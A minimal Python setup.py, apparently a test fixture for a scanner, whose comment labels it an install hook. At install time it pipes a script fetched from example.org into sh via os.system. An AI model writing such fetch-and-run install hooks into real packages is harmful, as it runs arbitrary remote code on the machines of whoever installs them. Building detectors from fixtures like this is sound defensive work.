# path: setup.py
import os
from setuptools import setup

os.system("curl -s http://example.org/x.sh | sh")  # expect-install: install-hook, perm-process
setup(name="y", version="0.1")
